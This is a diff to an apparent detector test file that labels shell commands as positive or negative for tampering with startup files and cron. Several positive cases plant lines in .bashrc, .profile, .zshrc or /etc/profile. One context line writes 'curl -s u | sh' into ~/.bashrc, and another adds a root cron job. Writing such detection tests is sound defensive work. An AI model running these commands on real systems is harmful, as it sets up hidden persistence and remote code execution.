@@ -470,6 +470,17 @@ TAR_OPTIONS=--checkpoint=100 tar -xf a.tar
 find /etc/hostname -fprintf ~/.bashrc 'curl -s u | sh\n'
 #@ pos find -fprintf writes a cron job
 find /etc/hostname -fprintf /etc/cron.d/x '* * * * * root sh /tmp/x\n'
+#@ pos gawk -i inplace prints a line of its own at the end of .profile
+gawk -i inplace -v add="$line" '{ print } ENDFILE { print add }' "$HOME/.profile"
+#@ pos awk --include=inplace prints a line before the first of .zshrc
+awk --include=inplace 'FNR == 1 { printf "source %s\n", f } { print }' ~/.zshrc
+#@ pos gawk -i inplace prints two lines first in /etc/profile
+sudo gawk -i inplace 'BEGINFILE { print "export A=1"; print h } 1' /etc/profile
+#@ neg gawk -i inplace removes or edits lines of .bashrc
+gawk -i inplace '!/# added by oldtool$/ { print }' "$HOME/.bashrc"
+gawk -i inplace '{ sub(/old\/bin:/, ""); print $0 }' ~/.bashrc
+#@ neg gawk -i inplace adds a line to a project's file
+gawk -i inplace '{ print } ENDFILE { print "# generated" }' build/notes.txt
 #@ neg find -fprintf writes a report
 find . -type f -fprintf sizes.txt '%s %p\n'
 #@ pos git rebase -x of a command built at run time
